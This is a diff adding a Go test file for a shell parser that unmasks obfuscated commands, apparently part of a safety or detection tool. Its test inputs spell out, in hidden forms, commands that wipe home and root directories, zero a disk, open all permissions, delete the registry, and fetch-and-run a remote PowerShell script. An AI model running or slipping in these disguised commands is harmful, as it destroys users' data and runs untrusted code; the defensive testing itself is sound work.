@@ -1,0 +1,124 @@
+package shell
+
+import (
+	"strings"
+	"testing"
+)
+
+// walked reports whether parsing src yields a command whose name and
+// joined arguments are as given (args "" matches any arguments).
+func walked(src, name, args string) (bool, []Command) {
+	cmds, _ := Parse(src, NewState())
+	for _, c := range cmds {
+		if c.Name == name && (args == "" || strings.Join(c.Args, " ") == args) {
+			return true, cmds
+		}
+	}
+	return false, cmds
+}
+
+// Text spelled as character codes, hex or reversed strings in Perl, Lua,
+// R, Ruby and Tcl reads as the command it spells.
+func TestCodeSpellings(t *testing.T) {
+	cases := []struct{ src, name, args string }{
+		{`perl -e 'system(join "", map { chr } (114, 109, 32, 45, 114, 102, 32, 126))'`, "rm", "-rf ~"},
+		{`perl -e 'system(join("", map { chr($_) } (0x72, 0x6d, 0x20, 0x2f, 0x78)))'`, "rm", "/x"},
+		{`lua -e 'os.execute(string.char(114, 109, 32, 45, 114, 102, 32, 126))'`, "rm", "-rf ~"},
+		{`Rscript -e 'system(intToUtf8(c(114, 109, 32, 45, 114, 102, 32, 126)))'`, "rm", "-rf ~"},
+		{`Rscript -e 'system(rawToChar(as.raw(c(0x72, 0x6d, 0x20, 0x7e))))'`, "rm", "~"},
+		// use File::Path; rmtree("/srv");
+		{`perl -e 'eval pack("H*", "7573652046696c653a3a506174683b20726d7472656528222f73727622293b")'`, "rm", "-r -f /srv"},
+		{`ruby -rfileutils -e 'eval ")]rsu/ cte/[w%(fr_mr.slitUeliF".reverse'`, "rm", "-r -f /etc /usr"},
+		{`ruby -rfileutils -e 'FileUtils.rm_rf(["/etc", "/usr"])'`, "rm", "-r -f /etc /usr"},
+		{`echo 'exec sh -c [binary format H* 726d202d7266202f]' | tclsh`, "rm", "-rf /"},
+		{`tclsh <<< 'exec sh -c [string reverse {~ fr- mr}]'`, "rm", "-rf ~"},
+		{`sh -c "$(printf '%b' '\0162\0155 -rf /x')"`, "rm", "-rf /x"},
+	}
+	for _, c := range cases {
+		if ok, cmds := walked(c.src, c.name, c.args); !ok {
+			t.Errorf("%s: no %s %s in %v", c.src, c.name, c.args, names(cmds))
+		}
+	}
+	// Printed, not run.
+	if ok, _ := walked(`perl -e 'print pack("H*", "726d202d7266202f")'`, "rm", ""); ok {
+		t.Errorf("a printed decode was walked as a command")
+	}
+}
+
+// awk's fields stand for what awk reads: known text, a listing's words,
+// or the input-word marker.
+func TestAwkFields(t *testing.T) {
+	if ok, cmds := walked(`echo /etc | awk '{ system("sudo rm -rf " $1) }'`, "rm", "-rf /etc"); !ok {
+		t.Errorf("echo /etc | awk system: %v", names(cmds))
+	}
+	if ok, cmds := walked(`find . -name '*.tmp' | awk '{system("rm -rf " $1)}'`, "rm", "-rf ./**/*.tmp"); !ok {
+		t.Errorf("find | awk system: %v", names(cmds))
+	}
+	if ok, cmds := walked(`awk '{ system("rm -rf " $1) }' dirs.txt`, "rm", "-rf "+stdinWord); !ok {
+		t.Errorf("awk FILE: %v", names(cmds))
+	}
+	// A printed field is not a command.
+	if ok, _ := walked(`awk '{print $1}' access.log`, "rm", ""); ok {
+		t.Errorf("awk print walked as rm")
+	}
+}
+
+// Windows: cmd's caret and %COMSPEC%, the call operator, Start-Process
+// argument arrays, registry paths and SDelete.
+func TestWindowsForms(t *testing.T) {
+	cases := []struct{ src, name, args string }{
+		{`c^m^d /c r^d /s /q C:\Users`, "rm", "-r -f /Users"},
+		{`%COMSPEC% /c rmdir /s /q %USERPROFILE%`, "rm", "-r -f ~"},
+		{`pwsh -c 'Start-Process -FileName dd -ArgumentList "if=/dev/zero","of=/dev/sda" -Wait'`, "dd", "if=/dev/zero of=/dev/sda"},
+		{`pwsh -c '& /bin/sh -c "chmod -R 777 /"'`, "chmod", "-R 777 /"},
+		{`Remove-Item -Path HKLM:\SOFTWARE -Recurse -Force`, "rm", "-r -f /Windows/Registry/HKLM/SOFTWARE"},
+		{`sdelete64.exe -accepteula -p 3 -s C:\Users\dev\Documents`, "shred", "-u /Users/dev/Documents"},
+		{`$u = -join ('1sp.s/moc.elpmaxe//:sptth'[-1..-100]); iex (irm $u)`, "curl", "-s https://example.com/s.ps1"},
+	}
+	for _, c := range cases {
+		if ok, cmds := walked(c.src, c.name, c.args); !ok {
+			t.Errorf("%s: no %s %s in %v", c.src, c.name, c.args, names(cmds))
+		}
+	}
+	// A caret in an argument (git's HEAD^) is not cmd's escape.
+	if ok, cmds := walked(`git log HEAD^..HEAD`, "git", "log HEAD^..HEAD"); !ok {
+		t.Errorf("git HEAD^: %v", names(cmds))
+	}
+}
+
+// A remote command carries the host it runs on.
+func TestRemoteHost(t *testing.T) {
+	cmds, _ := Parse(`ssh deploy@prod-db-01 'docker system prune -af --volumes'`, NewState())
+	found := false
+	for _, c := range cmds {
+		if c.Name == "docker" {
+			found = true
+			if c.Host != "prod-db-01" {
+				t.Errorf("host %q, want prod-db-01", c.Host)
+			}
+		}
+	}
+	if !found {
+		t.Fatalf("no docker command: %v", names(cmds))
+	}
+	if got := remoteHost("gcloud", []string{"compute", "ssh", "web-1", "--command", "x"}); got != "web-1" {
+		t.Errorf("gcloud host %q", got)
+	}
+}
+
+// PowerShell Start-Process argument arrays.
+func TestPsCommaItems(t *testing.T) {
+	got := psCommaItems(`"if=/dev/zero","of=x y",'bs=1M',plain`)
+	want := []string{"if=/dev/zero", "of=x y", "bs=1M", "plain"}
+	if strings.Join(got, "|") != strings.Join(want, "|") {
+		t.Errorf("psCommaItems = %q, want %q", got, want)
+	}
+}
+
+func names(cmds []Command) []string {
+	var out []string
+	for _, c := range cmds {
+		out = append(out, c.Name+" "+strings.Join(c.Args, " "))
+	}
+	return out
+}
